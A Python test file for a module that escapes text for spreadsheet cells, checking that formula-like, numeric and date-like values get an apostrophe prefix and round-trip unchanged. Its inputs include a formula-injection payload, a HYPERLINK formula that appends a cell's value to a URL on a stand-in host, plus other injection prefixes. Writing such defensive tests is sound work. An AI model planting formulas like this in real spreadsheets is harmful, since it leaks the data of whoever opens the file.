"""Texts for people in cells of a spreadsheet."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policy_store.exchange.cells import from_cell, to_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u200b=1", "\uff1d1",
        "--", "0815", "1-2", "3/4", "10:30", "1E5", "604.800", "50 %", "1. Mai", "May 5", "MARCH1", "dez-24", "3 PM",
        "5 €", "true", "WAHR", "'=1", "''0815",
    ],
    ids=repr,
)  # fmt: skip
def test_what_a_spreadsheet_would_run_or_change_gets_an_apostrophe(text: str) -> None:
    assert to_cell(text) == f"'{text}"
    assert from_cell(to_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["", "Contoso", "Kunde 4711", "K12", "a=b", "3 domains of Contoso", "O'Neill", "'quoted'", "'"]
)
def test_a_text_that_is_one_stays_as_it_is(text: str) -> None:
    assert to_cell(text) == from_cell(text) == text


@given(st.text(st.sampled_from("'=+-@ \t0815aE.") | st.characters()))
def test_what_goes_out_comes_back(text: str) -> None:
    assert from_cell(to_cell(text)) == text
    assert not to_cell(text).startswith(("=", "+", "-", "@"))
